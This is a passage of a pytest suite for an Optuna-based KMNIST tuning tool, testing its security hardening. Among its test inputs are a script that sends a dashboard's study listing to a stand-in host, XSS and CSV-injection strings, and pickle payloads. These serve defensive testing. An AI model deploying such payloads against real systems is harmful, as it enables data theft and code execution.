    storage = open_storage(shared.worker_url)
    with engine(storage).connect() as conn:  # our own session: its startup options
        assert [conn.exec_driver_sql(f"SHOW {s}").scalar() for s in ("lock_timeout", "statement_timeout")] == ["30s", "2min"]
    dash = open_storage(shared.url("dashboard"), timeouts=Timeouts.from_env(idle_in_transaction_s=60))
    with engine(dash).connect() as conn:
        assert conn.exec_driver_sql("SHOW idle_in_transaction_session_timeout").scalar() == "1min"
    # A session that sets nothing (a client behind PgBouncer, which drops startup options): storage/initdb's
    # database defaults.
    for who in ("worker", "dashboard"):
        with shared.connect(who) as conn:
            got = [conn.execute(f"SHOW {s}").fetchone()[0] for s in ("lock_timeout", "statement_timeout")]  # type: ignore[index]
            assert got == ["30s", "2min"], (who, got)
    with shared.connect("dashboard") as conn:
        assert conn.execute("SHOW idle_in_transaction_session_timeout").fetchone()[0] == "1min"  # type: ignore[index]
    # Through the suite's PgBouncer (transaction pooling; it drops our startup options): the same bounds.
    from conftest import PGBOUNCER

    through = make_url(PGBOUNCER).set(drivername="postgresql+psycopg", database=shared.db)
    pooled = open_storage(through.render_as_string(hide_password=False), timeouts=Timeouts.from_env(lock_s=7))
    with engine(pooled).connect() as conn:
        got = [conn.exec_driver_sql(f"SHOW {s}").scalar() for s in ("lock_timeout", "statement_timeout")]
        assert got == ["30s", "2min"], got  # the database's, not the 7 s this client asked for
    engine(pooled).dispose()
    bad = cli_here("study", "list", "--storage", shared.worker_url, env=cli_env(KMNIST_TUNE_DB_LOCK_TIMEOUT="soon"), check=False)
    assert "KMNIST_TUNE_DB_LOCK_TIMEOUT='soon' is not a number of seconds" in error_line(bad)


# -- issue 34: claim tickets dated in the future ------------------------------------------------------


def test_claim_tickets_from_the_future_are_ignored_and_pruned(shared: Shared, tmp_path: Path) -> None:
    """Tickets dated a century ahead, for this study and for the next study ids to come, would count
    against every budget forever (workers wait with 0 trials): they count for nothing, and go."""
    shared.create(tmp_path, "future", budget={"n_trials": 1})
    sid = shared.storage().get_study_id_from_name("future")
    for study_id in range(sid, sid + 20):
        shared.sql("INSERT INTO kmnist_tune_claims (study_id, claimed_at) VALUES (%s, now() + interval '100 years')", (study_id,))
    proc = run_cli("worker", "--study", "future", "--storage", shared.worker_url, "--gpus", "none", timeout=180)
    assert "worker ran 1 trial(s)" in proc.stdout, proc.stdout + proc.stderr
    left = shared.sql("SELECT count(*) FROM kmnist_tune_claims WHERE claimed_at > now()")[0][0]
    assert left == 19  # the claim dropped this study's; the others wait for the prune
    out = cli_here("schema", "--prune", "--storage", shared.worker_url).stdout
    assert "and 19 claim ticket(s) no worker holds" in out, out
    assert shared.sql("SELECT count(*) FROM kmnist_tune_claims")[0][0] == 0


# -- issue 34: a download's cap caps its memory --------------------------------------------------------


def test_a_huge_artifact_row_is_read_in_pieces_and_refused_at_the_cap(shared: Shared, tmp_path: Path) -> None:
    """One 32 MiB row planted for an artifact that may be 1 MiB: refused once 1 MiB has arrived, with
    a few MiB held at most (the row was read whole before its bytes were counted)."""
    from kmnist_tune.service.artifacts import BadDownload, download_checked

    artifact_id = str(uuid.uuid4())
    planted = f"INSERT INTO {TABLE} (artifact_id, chunk, data) VALUES (%s, 0, convert_to(repeat('x', 32 << 20), 'UTF8'))"
    shared.sql(planted, (artifact_id,))
    store = artifact_store(open_storage(shared.worker_url))
    target = tmp_path / "download.bin"
    raised, peak = peak_of(lambda: download_checked(store, artifact_id, target, "0" * 64, 1 << 20))
    assert isinstance(raised, BadDownload) and "larger than 1 MiB" in str(raised)
    assert peak < 6 << 20, f"{peak:,} bytes held"
    assert not target.exists()
    # What we write still reads back whole: rows of exactly CHUNK bytes, and a last short one.
    data = secrets.token_bytes((2 << 20) + 123)
    store.write(artifact_id, io.BytesIO(data))
    download_checked(store, artifact_id, target, sha(data), 8 << 20)
    assert target.read_bytes() == data
    store.remove(artifact_id)


# -- issue 34: signatures bound to their study ---------------------------------------------------------
# The trained setups of shared_trained.py are signed with KEY; each attack moves or edits a copy of
# what they signed in the shared PostgreSQL database, as the worker role.


def keyed(**extra: str) -> dict[str, str]:
    return cli_env(KMNIST_TUNE_SIGNING_KEY=KEY, **extra)


def new_study(shared: Shared, spec: dict[str, Any]) -> optuna.Study:
    """A study as `study create` stores it (its direction and spec), made with Optuna's API: `study
    create` reads every study's attributes first, and a test above leaves one (abyss) that no decoder reads."""
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.contract.spec import spec_to_dict

    parsed = parse_spec(spec)
    study = optuna.create_study(study_name=parsed.name, storage=shared.storage(), direction=parsed.direction)
    study.set_user_attr(SPEC_ATTR, spec_to_dict(parsed))
    return study


def restore(shared: Shared, url: str, name: str, as_name: str, artifact_ids: list[str]) -> optuna.Study:
    """Study `name` of the storage at `url` copied into the shared database as `as_name` (same name: a
    study restored into another database), with the artifacts named."""
    optuna.copy_study(from_study_name=name, from_storage=url, to_storage=shared.storage(), to_study_name=as_name)
    src, dst = artifact_store(open_storage(url)), artifact_store(shared.storage())
    for artifact_id in artifact_ids:
        with src.open_reader(artifact_id) as fh:
            dst.write(artifact_id, io.BytesIO(fh.read()))
    return optuna.load_study(study_name=as_name, storage=shared.storage())


@pytest.fixture(scope="module")
def restored(shared: Shared, evaluated_study: EvaluatedStudy, ensembled_study: EnsembledStudy) -> optuna.Study:
    """The evaluated study (its test evaluation and kept model signed with KEY) restored into the shared
    database under its own name, with the ensemble evaluation that its copy signed for the same name."""
    s = evaluated_study
    kept = optuna.load_study(study_name=s.name, storage=s.url).user_attrs[MODEL_ATTR]
    study = restore(shared, s.url, s.name, s.name, list(kept["artifacts"].values()))
    ensembled = optuna.load_study(study_name=ensembled_study.name, storage=ensembled_study.url)
    study.set_user_attr(ENSEMBLE_ATTR, ensembled.user_attrs[ENSEMBLE_ATTR])
    return study


def test_with_a_signing_key_a_kept_model_moved_to_another_study_is_refused(
    shared: Shared, restored: optuna.Study, tmp_path: Path
) -> None:
    name, url = restored.study_name, shared.worker_url
    cli_here("export", "--study", name, str(tmp_path / "restored"), "--storage", url, env=keyed())  # its own: fetched
    assert json.loads((tmp_path / "restored" / "model.json").read_text())["source"]["study"] == name
    thief = new_study(shared, tiny_spec("thief"))
    thief.set_user_attr(MODEL_ATTR, restored.user_attrs[MODEL_ATTR])  # its artifacts are in the same table
    moved = tmp_path / "moved"
    line = error_line(cli_here("export", "--study", "thief", str(moved), "--storage", url, env=keyed(), check=False))
    assert "kept on study 'thief' is unsigned or not signed for it" in line and "signed for another study" in line, line
    # Without the key the card still names its study: refused too, and nothing written either way.
    line = error_line(cli_here("export", "--study", "thief", str(moved), "--storage", url, check=False))
    assert f"has the model card of study {name!r}" in line and not moved.exists()


def test_with_a_signing_key_an_edited_or_moved_evaluation_is_withheld(shared: Shared, restored: optuna.Study) -> None:
    """`best` withholds a test score not signed for its study (one line on stderr; null in --json) and
    still shows the best trial: choosing to refuse the whole command would let anyone with the worker
    role take `best` away from everyone."""
    name, url = restored.study_name, shared.worker_url
    signed = json.loads(cli_here("best", "--study", name, "--json", "--storage", url, env=keyed()).stdout)
    assert signed["test_evaluation"] is not None and signed["ensemble_evaluation"] is not None
    scores = {a: restored.user_attrs[a] for a in (TEST_ATTR, ENSEMBLE_ATTR)}
    try:
        restored.set_user_attr(TEST_ATTR, {**scores[TEST_ATTR], "test_value": 0.9999})
        restored.set_user_attr(ENSEMBLE_ATTR, {**scores[ENSEMBLE_ATTR], "n_test": 10_000})
        for args in (("--json",), ()):
            proc = cli_here("best", "--study", name, *args, "--storage", url, env=keyed())
            said = [ln for ln in proc.stderr.splitlines() if ln.strip()]
            assert len(said) == 2 and all("not shown" in ln and "not signed with your" in ln for ln in said), said
            assert "0.9999" not in proc.stdout and "10000" not in proc.stdout
        shown = json.loads(cli_here("best", "--study", name, "--json", "--storage", url, env=keyed()).stdout)
        assert shown["test_evaluation"] is None and shown["ensemble_evaluation"] is None and shown["best"] == signed["best"]
        # Copied, unchanged, to another study: not signed for that one.
        moved = new_study(shared, tiny_spec("scored-elsewhere"))
        moved.set_user_attr(TEST_ATTR, scores[TEST_ATTR])
        proc = cli_here("study", "show", "scored-elsewhere", "--storage", url, env=keyed())
        assert "test evaluation stored on study 'scored-elsewhere' is unsigned" in proc.stderr
        assert "test accuracy of trial" not in proc.stdout
    finally:
        for attr, value in scores.items():
            restored.set_user_attr(attr, value)


def _checkpoint(study: optuna.Study, trial: optuna.Trial, config: dict[str, Any]) -> None:
    """A checkpoint of `trial`, uploaded and signed as the worker's TrialCheckpoints does it."""
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.recipe.checkpoints import TrialCheckpoints

    info = {"format": 1, "epoch": 0, "n_epochs": 1, "batch_size": 32, "loader_epoch": 1, "rng": {}, "seed": 0}
    info.update(arch="resnet18", stem="imagenet", config=config)
    ck = TrialCheckpoints(trial, parse_spec(tiny_spec(study.study_name)), lambda m: None)
    staging = tempfile.TemporaryDirectory()
    weights, meta = Path(staging.name) / "w.pth", Path(staging.name) / "m.json"
    weights.write_bytes(b"weights")
    meta.write_text(json.dumps(info))
    ck._upload(staging, weights, meta, 0, 32)
    ck.close()


def _resume(study: optuna.Study, failed: FrozenTrial, params: dict[str, Any]) -> tuple[Any, list[str]]:
    """The retry Optuna makes of `failed`, asked and given its checkpoint: (what it resumes, its lines)."""
    optuna.storages.RetryHeartbeatStaleTrialCallback()(study, failed)
    return _resume_waiting(study, params)


def _resume_waiting(study: optuna.Study, params: dict[str, Any]) -> tuple[Any, list[str]]:
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.recipe.checkpoints import TrialCheckpoints

    retry = study.ask()
    lines: list[str] = []
    ck = TrialCheckpoints(retry, parse_spec(tiny_spec(study.study_name)), lines.append)
    try:
        return ck.resume_point(params), lines
    finally:
        ck.close()
        study.tell(retry, state=TrialState.FAIL)


CONFIG = {"arch": "resnet18", "stem": "imagenet", "epochs": 1}


def test_with_a_signing_key_a_checkpoint_moved_to_another_study_is_refused(
    shared: Shared, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KMNIST_TUNE_SIGNING_KEY", KEY)
    home, _ = new_study(shared, tiny_spec("ckpt-home")), new_study(shared, tiny_spec("ckpt-away"))
    trial = home.ask()
    _checkpoint(home, trial, {**CONFIG, "lr": 0.005})
    failed = home.tell(trial, state=TrialState.FAIL)
    resume, lines = _resume(home, failed, {**CONFIG, "lr": 0.005, "batch_size": 32})
    assert resume is not None and not lines  # its own study's retry resumes it
    # The failed trial, checkpoint record and all, moved into the other study (the worker role may
    # UPDATE Optuna's tables), where Optuna's retry of it finds the checkpoint under the right names.
    shared.sql(
        "UPDATE trials SET study_id = (SELECT study_id FROM studies WHERE study_name = 'ckpt-away'), number = 0 "
        "WHERE trial_id = %s",
        (trial._trial_id,),
    )
    away = optuna.load_study(study_name="ckpt-away", storage=shared.storage())
    resume, lines = _resume(away, away.trials[0], {**CONFIG, "lr": 0.005, "batch_size": 32})
    assert resume is None and len(lines) == 1, lines
    assert "not signed with this worker's KMNIST_TUNE_SIGNING_KEY" in lines[0] and "'ckpt-away'" in lines[0]
    assert "starting from scratch" in lines[0]


def test_with_a_signing_key_a_checkpoint_goes_to_no_other_trial(
    shared: Shared, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Trial 1's retry, its retry bookkeeping rewritten (trial system attributes, which the worker
    role can UPDATE) to name trial 0, whose checkpoint trained other parameters: not resumed."""
    monkeypatch.setenv("KMNIST_TUNE_SIGNING_KEY", KEY)
    study = new_study(shared, tiny_spec("ckpt-swap"))
    first, second = study.ask(), study.ask()
    _checkpoint(study, first, {**CONFIG, "lr": 0.002})
    study.tell(first, state=TrialState.FAIL)
    optuna.storages.RetryHeartbeatStaleTrialCallback()(study, study.tell(second, state=TrialState.FAIL))
    retry_id = shared.sql(
        "SELECT trial_id FROM trials WHERE study_id = (SELECT study_id FROM studies WHERE study_name = 'ckpt-swap') "
        "AND state = 'WAITING'"
    )[0][0]
    for key, value in (("failed_trial", first.number), ("retry_history", [first.number])):
        shared.sql(
            "UPDATE trial_system_attributes SET value_json = %s WHERE trial_id = %s AND key = %s",
            (json.dumps(value), retry_id, key),
        )
    resume, lines = _resume_waiting(study, {**CONFIG, "lr": 0.009, "batch_size": 32})
    assert resume is None and len(lines) == 1 and "another configuration (parameters)" in lines[0], lines


@pytest.fixture(scope="module")
def prior_copy(shared: Shared, lr_prior_study: LrPriorStudy) -> optuna.Study:
    """The LR-prior study (its prior and curve signed with KEY, two trials drawn from its range)
    restored into the shared database under its own name."""
    s = lr_prior_study
    curve = optuna.load_study(study_name=s.name, storage=s.url).user_attrs[PRIOR_ATTR]["curve"]
    return restore(shared, s.url, s.name, s.name, [curve["artifact"]])


def test_with_a_signing_key_an_lr_prior_moved_or_edited_is_refused(
    shared: Shared, prior_copy: optuna.Study, tmp_path: Path
) -> None:
    name, url = prior_copy.study_name, shared.worker_url
    assert "search" in cli_here("lr-find", "--study", name, "--stored", "--storage", url, env=keyed()).stdout
    prior = prior_copy.user_attrs[PRIOR_ATTR]
    # Copied, curve entry and all, to a study of the same spec: not signed for that one.
    new_study(shared, lr_prior_spec("prior-thief", 2)).set_user_attr(PRIOR_ATTR, prior)
    line = error_line(cli_here("lr-find", "--study", "prior-thief", "--stored", "--storage", url, env=keyed(), check=False))
    assert "LR-finder prior of study 'prior-thief' is unsigned or not signed" in line
    # Its range edited where it was made: `lr-find --stored` and a worker refuse it in one line (two
    # trials were drawn from it: a new range would split the study; the user re-runs lr-find --force).
    try:
        prior_copy.set_user_attr(PRIOR_ATTR, {**prior, "low": 1.0, "high": 10.0})
        line = error_line(cli_here("lr-find", "--study", name, "--stored", "--storage", url, env=keyed(), check=False))
        assert "signed for another study or trial, changed since" in line
        worker = cli_here(
            "worker", "--study", name, "--storage", url, "--gpus", "none", "--n-trials", "3", env=keyed(), check=False
        )
        errors = [ln for ln in worker.stderr.splitlines() if ln.startswith("error:")]  # after its progress lines
        assert worker.returncode == 2 and "Traceback" not in worker.stderr and len(errors) == 1, worker.stderr
        line = errors[0]
        assert "2 trial(s) were drawn from its range" in line and f"lr-find --study {name} --force" in line
        assert len(optuna.load_study(study_name=name, storage=shared.storage()).trials) == 2  # nothing ran
    finally:
        prior_copy.set_user_attr(PRIOR_ATTR, prior)


def test_with_a_signing_key_a_worker_runs_the_finder_again_over_an_unsigned_prior_no_trial_used(
    shared: Shared, prior_copy: optuna.Study, small_splits: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A study with no trial yet and a prior copied from another (its range edited): the worker says so
    in one line and computes its own (signed, its suggestion queued first), as the first worker of a
    study would."""
    import torch

    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.contract.records import LRPrior
    from kmnist_tune.observe.progress import make_reporter
    from kmnist_tune.recipe.lr_prior import ensure_prior

    monkeypatch.setenv("KMNIST_TUNE_SIGNING_KEY", KEY)
    spec = lr_prior_spec("prior-fresh", 2)
    new_study(shared, spec)
    storage = shared.storage()
    study = optuna.load_study(study_name="prior-fresh", storage=storage)
    copied = {**prior_copy.user_attrs[PRIOR_ATTR], "low": 1.0, "high": 10.0}  # from another study, its range edited
    study.set_user_attr(PRIOR_ATTR, copied)
    said = io.StringIO()
    with make_reporter(stream=said) as events:
        prior, computed = ensure_prior(study, storage, parse_spec(spec), small_splits, torch.device("cpu"), events)
    lines = said.getvalue()
    assert computed and "prior of study 'prior-fresh' is unsigned or not signed" in lines and "runs the LR finder again" in lines
    assert prior.high < 1.0 and prior.low < prior.centre < prior.high
    from kmnist_tune.signing import record_refusal

    assert record_refusal(LRPrior, "prior-fresh", study.user_attrs) is None  # its own, signed for it
    (queued,) = study.get_trials(states=(TrialState.WAITING,))
    assert queued.system_attrs["fixed_params"]["lr"] == pytest.approx(prior.centre)  # Optuna keeps a queued one there


def _signed_model_dir(folder: Path, marker: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """crafted_model_dir with its card signed with KEY (by the package's own card signature)."""
    from kmnist_tune.training.inference import card_signature

    crafted_model_dir(folder, marker, classes=[str(i) for i in range(10)])
    card = json.loads((folder / "model.json").read_text())
    monkeypatch.setenv("KMNIST_TUNE_SIGNING_KEY", KEY)
    card["signature"] = card_signature(card)
    monkeypatch.delenv("KMNIST_TUNE_SIGNING_KEY")
    (folder / "model.json").write_text(json.dumps(card))
    return folder


def test_with_a_signing_key_predict_refuses_a_swapped_or_an_extra_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every file the signed card lists is checked, not only the two predict reads (someone trusting
    the signed directory may open model.pt2 in PyTorch), and no file it does not list may be there."""
    marker = tmp_path / "pwned"
    folder = _signed_model_dir(tmp_path / "signed", marker, monkeypatch)
    images = str(FIXTURE / "kmnist-test-imgs.npz")
    assert len(cli_here("predict", str(folder), images, env=keyed()).stdout.splitlines()) == 300  # as signed: used
    swapped = tmp_path / "swapped"
    shutil.copytree(folder, swapped)
    _pickled_pt2(swapped / "model.pt2", tmp_path / "other-marker")  # another payload: another sha256
    line = error_line(cli_here("predict", str(swapped), images, env=keyed(), check=False))
    assert "model.pt2 does not match its checksum in model.json" in line
    extra = tmp_path / "extra"
    shutil.copytree(folder, extra)
    (extra / "fastai-learner.pkl").write_bytes(pickle.dumps(_Payload(marker)))
    line = error_line(cli_here("predict", str(extra), images, env=keyed(), check=False))
    assert "'fastai-learner.pkl', which its model card does not list" in line
    assert not marker.exists()


def test_with_a_signing_key_a_version_1_signature_is_refused_as_such(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A card signed before signatures named their study (version 1: HMAC over the domain, the kind and
    the card, joined by NULs) is refused in one line that says so; the user exports it again."""
    import hmac

    from kmnist_tune.training.inference import _canonical

    folder = _signed_model_dir(tmp_path / "old", tmp_path / "pwned", monkeypatch)
    card = json.loads((folder / "model.json").read_text())
    message = "\0".join(("kmnist-tune-signature-v1", "model-card", _canonical(card))).encode()
    card["signature"] = hmac.new(KEY.encode(), message, hashlib.sha256).hexdigest()
    (folder / "model.json").write_text(json.dumps(card))
    line = error_line(cli_here("predict", str(folder), str(FIXTURE / "kmnist-test-imgs.npz"), env=keyed(), check=False))
    assert "unsigned or not signed with your KMNIST_TUNE_SIGNING_KEY" in line and "before signatures named their study" in line


def test_predict_writes_csv_cells_a_spreadsheet_reads_as_text(tmp_path: Path) -> None:
    """Class names (a model directory's) and input names (whoever named the files) that start like a
    formula get a leading single quote in a CSV (OWASP's CSV-injection advice); JSON keeps them as they are."""
    starts = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "ok=1", "1", "-"]
    folder = crafted_model_dir(tmp_path / "m", tmp_path / "pwned", classes=[str(i) for i in range(10)])
    with open(folder / "classes.csv", "w", newline="", encoding="utf-8") as fh:  # quoted as export writes it
        csv.writer(fh).writerows([["index", "codepoint", "char"], *([i, "U+0000", c] for i, c in enumerate(starts))])
    card = json.loads((folder / "model.json").read_text())
    card["files"]["classes.csv"] = sha((folder / "classes.csv").read_bytes())
    (folder / "model.json").write_text(json.dumps(card))
    inputs = tmp_path / "in"
    inputs.mkdir()
    images = np.load(FIXTURE / "kmnist-test-imgs.npz", allow_pickle=False)["arr_0"]
    Image.fromarray(images[0]).save(inputs / "=cmd.png")
    Image.fromarray(images[1]).save(inputs / "a.png")
    out = tmp_path / "p.csv"
    cli_here("predict", str(folder), str(inputs), "--top", "10", "--out", str(out))
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    chars = {r["char"] for r in rows}
    assert chars == {"'" + c if c[0] in "=+-@\t\r" else c for c in starts}, chars
    assert {Path(r["input"]).name for r in rows} == {"=cmd.png", "a.png"}  # a path starts with /: unchanged
    cli_here("predict", str(folder), str(inputs), "--top", "10", "--out", str(tmp_path / "p.json"))
    assert {r["char"] for r in json.loads((tmp_path / "p.json").read_text())} == set(starts)


def test_a_card_of_32_resnet50s_beside_a_resnet18s_weights_is_refused_before_any_network_is_built(tmp_path: Path) -> None:
    """A 5 kB card asks for 32 resnet50 members; the weights are one resnet18's. The weights file's
    header is compared with the card's networks first: refused in one line, the process's peak memory
    that of an import of torch, not the 3.3 GB of 32 resnet50s (measured with wait4's ru_maxrss)."""
    folder = crafted_model_dir(tmp_path / "m", tmp_path / "pwned", classes=[str(i) for i in range(10)])
    card = json.loads((folder / "model.json").read_text())
    member = {
        "constructor": {"arch": "resnet50", "stem": "imagenet", "n_classes": 10, "dropout": 0.5},
        "normalisation": {"mean": 0.19, "std": 0.35},
    }
    card["model"]["ensemble"] = {"members": [member] * 32, "shifts": [[0, 0]]}
    (folder / "model.json").write_text(json.dumps(card))
    assert (folder / "model.json").stat().st_size < 6000
    out, err = tmp_path / "out", tmp_path / "err"
    with open(out, "w") as o, open(err, "w") as e:
        proc = subprocess.Popen(
            [sys.executable, "-m", "kmnist_tune", "predict", str(folder), str(FIXTURE / "kmnist-test-imgs.npz")],
            env=cli_env(),
            stdout=o,
            stderr=e,
        )
        _, status, usage = os.wait4(proc.pid, 0)  # this child's own peak, not the test process's
        proc.returncode = os.waitstatus_to_exitcode(status)
    # Linux: kB. Importing torch and fastai takes 1.1-1.6 GiB here; 32 resnet50s 3.3 GB more (4.2 GiB in all).
    peak_mib = usage.ru_maxrss / 1024
    assert peak_mib < 2560, f"predict peaked at {peak_mib:.0f} MiB before refusing"
    line = error_line(subprocess.CompletedProcess(proc.args, proc.returncode, out.read_text(), err.read_text()))
    assert "weights.safetensors does not hold the weights of its card's network" in line and "32 resnet50 members" in line


# -- issue 34: served artifacts, listings, malformed records, the report -------------------------


def test_an_html_artifact_is_served_as_a_sandboxed_download_not_a_page_of_the_dashboard(
    shared: Shared, dashboard: int, tmp_path: Path
) -> None:
    """An artifact whose recorded content type is text/html (any worker-role user can upload one or
    write its record) must never open as a page of the dashboard's origin, where its script would read
    every study: a download (attachment), never sniffed, under a sandboxing policy, whatever its record says."""
    study = shared.create(tmp_path, "html-artifact")
    storage = open_storage(shared.worker_url)
    page = tmp_path / 'report" onload=x; .html'
    page.write_text(
        "<script>fetch('/api/studies').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t))</script>"
    )
    store = artifact_store(storage)
    sid = storage.get_study_id_from_name("html-artifact")
    study_aid = optuna.artifacts.upload_artifact(
        artifact_store=store, file_path=str(page), study_or_trial=study, mimetype="text/html"
    )
    trial = study.ask()
    trial_aid = optuna.artifacts.upload_artifact(
        artifact_store=store, file_path=str(page), study_or_trial=trial, mimetype="text/html; charset=utf-7", encoding="gzip"
    )
    here = f"127.0.0.1:{dashboard}"
    for path in (f"/artifacts/{sid}/{study_aid}", f"/artifacts/{sid}/{trial._trial_id}/{trial_aid}"):
        for method in ("GET", "HEAD"):
            r = ask(dashboard, path, here, method)
            headers = [(k.lower(), v) for k, v in r.headers]
            one = {k: [v for key, v in headers if key == k] for k in {k for k, _ in headers}}
            assert r.status == 200 and (method == "HEAD" or r.body == page.read_bytes()), (path, r.status)
            assert one["content-disposition"] == ['attachment; filename="report__onload_x__.html"'], one
            assert one["x-content-type-options"] == ["nosniff"]
            (csp,) = one["content-security-policy"]
            directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
            assert "sandbox" in directives and directives["sandbox"] == [] and directives["default-src"] == ["'none'"], csp
            assert "content-encodings" not in one and "content-encoding" not in one
    # The dashboard's own pages: a policy without inline script, and no framing by another site.
    r = ask(dashboard, f"/dashboard/studies/{sid}", here)
    (csp,) = [v for k, v in r.headers if k.lower() == "content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0], csp
    assert dict((k.lower(), v) for k, v in r.headers)["x-frame-options"] == "DENY"


MiB = 1 << 20


def test_a_huge_attribute_on_one_study_is_never_read_by_anyone_elses_listing(
    shared: Shared, dashboard: int, tmp_path: Path
) -> None:
    """One 64 MiB attribute on the attacker's own study: Optuna's listing (`get_all_studies`, what `study
    list` and optuna-dashboard's study list and study lookup used) reads every attribute of every study,
    so every user's listing held it several times over. Listings read only what they show, each value
    bounded; what they leave out is said in that study's row."""
    from kmnist_tune.service.listing import BoundedListing
    from kmnist_tune.service.studies import list_studies

    hoard = shared.create(tmp_path, "hoard")
    hoard.set_user_attr("junk", "x" * (64 * MiB))
    hoard.set_user_attr(BUDGET_ATTR, {"n_trials": 2, "timeout": None, "pad": "y" * MiB})  # what a row shows, too long
    try:
        for listing in (lambda: list_studies(open_storage(shared.worker_url)), BoundedListing(shared.storage()).get_all_studies):
            raised, peak = peak_of(listing)
            assert raised is None and peak < 8 * MiB, (raised, f"{peak:,} bytes")
        rows = {
            line.split("\t")[0]: line for line in cli_here("study", "list", "--storage", shared.worker_url).stdout.splitlines()
        }
        assert "kmnist_tune.budget is 1,048," in rows["hoard"] and "more than a listing reads" in rows["hoard"], rows["hoard"]
        assert rows["viewed"] == "viewed\t1 finished\tbest 0.5000"
        # The dashboard: its study list, and a study's page (it finds the study in the same listing).
        here = f"127.0.0.1:{dashboard}"
        listed = ask(dashboard, "/api/studies", here)
        assert listed.status == 200 and len(listed.body) < MiB
        (shown,) = [s for s in json.loads(listed.body)["study_summaries"] if s["study_name"] == "hoard"]
        assert {a["key"]: a["value"] for a in shown["user_attrs"]}["junk"].startswith("(not shown: it is 67,108,866 bytes")
        viewed = ask(dashboard, f"/api/studies/{shared.viewed['study_id']}", here)
        assert viewed.status == 200 and len(viewed.body) < MiB and json.loads(viewed.body)["name"] == "viewed"
    finally:
        optuna.delete_study(study_name="hoard", storage=shared.storage())


# Records on a study as anyone who shares the database can write them: (attribute, value, whether `study
# list` reads it). The test evaluation's trial holds the markup `report` once wrote into its page.
MALFORMED = [
    (BUDGET_ATTR, "x", True),
    (BUDGET_ATTR, {"n_trials": "x", "timeout": None}, True),
    (BUDGET_ATTR, {"n_trials": True}, True),
    (STOP_ATTR, ["x"], False),
    (STOP_ATTR, {"at": "now", "by": 7}, False),
    (TEST_ATTR, {"trial": "<script>alert(1)</script>", "metric": "accuracy", "test_value": 0.5}, False),
    (ENSEMBLE_ATTR, {"metric": "accuracy", "test_value": "high"}, False),
    (SPEC_ATTR, {"name": "garbled", "parameters": "x"}, True),
]


def test_a_malformed_record_on_one_study_is_one_line_in_its_row_and_for_its_commands(shared: Shared, tmp_path: Path) -> None:
    garbled = shared.create(tmp_path, "garbled")
    shared.create(tmp_path, "fine")
    spec = garbled.user_attrs[SPEC_ATTR]
    url = shared.worker_url
    try:
        for attr, value, listed in MALFORMED:
            garbled.set_user_attr(attr, value)
            proc = cli_here("study", "list", "--storage", url)
            rows = {line.split("\t")[0]: line for line in proc.stdout.splitlines()}
            assert proc.returncode == 0 and not proc.stderr, proc.stderr
            assert rows["fine"] == "fine\t0/2 finished\tbest -" and rows["viewed"] == "viewed\t1 finished\tbest 0.5000"
            said = "spec stored in study 'garbled'" if attr == SPEC_ATTR else attr
            assert (said in rows["garbled"]) == listed and "\n" not in rows["garbled"], (attr, rows["garbled"])
            for args in (("study", "show", "garbled"), ("best", "--study", "garbled")):
                line = error_line(cli_here(*args, "--storage", url, check=False))
                assert said in line and "'garbled'" in line, line
            assert "fine" in cli_here("study", "show", "fine", "--storage", url).stdout
            garbled.set_user_attr(attr, spec if attr == SPEC_ATTR else None)
        # `report` the same; and the commands that write a record set a malformed one right.
        garbled.set_user_attr(BUDGET_ATTR, "x")
        line = error_line(cli_here("report", "--study", "garbled", "--out", str(tmp_path / "r"), "--storage", url, check=False))
        assert BUDGET_ATTR in line and "study extend garbled" in line
        line = error_line(cli_here("worker", "--study", "garbled", "--gpus", "none", "--storage", url, check=False))
        assert BUDGET_ATTR in line and "study 'garbled'" in line
        assert "budget 5 trials" in cli_here("study", "extend", "garbled", "--n-trials", "5", "--storage", url).stdout
        garbled.set_user_attr(STOP_ATTR, "x")
        assert "resumed" in cli_here("study", "resume", "garbled", "--storage", url).stdout
        assert "garbled\t0/5 finished\tbest -" in cli_here("study", "list", "--storage", url).stdout
        # A trial's record: a finished trial's attributes cannot be set right, so it is shown as left out.
        dist = {"lr": optuna.distributions.FloatDistribution(1e-3, 1e-2, log=True)}
        bad = {"worker": "x", "halving_events": [{"from_bs": "<b>"}], "retry_of": "0"}
        garbled.add_trial(create_trial(params={"lr": 5e-3}, distributions=dist, value=0.5, user_attrs=bad))
        shown = cli_here("study", "show", "garbled", "--storage", url)
        said = [line for line in shown.stdout.splitlines() if line.startswith("trial 0: its attribute")]
        assert shown.returncode == 0 and len(said) == 1 and "left out" in said[0], shown.stdout
        assert "best trial 0" in shown.stdout
    finally:
        for name in ("garbled", "fine"):
            optuna.delete_study(study_name=name, storage=shared.storage())


def test_the_report_escapes_everything_it_writes_into_its_page(shared: Shared, tmp_path: Path) -> None:
    """`report` wrote the test evaluation's trial number and test size into index.html as they were
    stored. Now a record of another shape is one line, and every value read from the study is escaped."""
    study = shared.create(tmp_path, "reported")
    url, out = shared.worker_url, tmp_path / "report"
    script, img = "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"
    evaluation = {"trial": script, "metric": "accuracy", "test_value": 0.5, "valid_value": 0.4, "n_train": 10}
    study.set_user_attr(TEST_ATTR, {**evaluation, "n_test": img, "params": {}, "device": "cpu", "at": "now"})
    line = error_line(cli_here("report", "--study", "reported", "--out", str(out), "--storage", url, check=False))
    assert TEST_ATTR in line and "'reported'" in line and not out.exists()
    # Well-formed records whose strings are markup, a parameter value, and a trial record that is not.
    study.set_user_attr(
        TEST_ATTR, {**evaluation, "trial": 0, "metric": script, "n_test": 7, "params": {}, "device": img, "at": ""}
    )
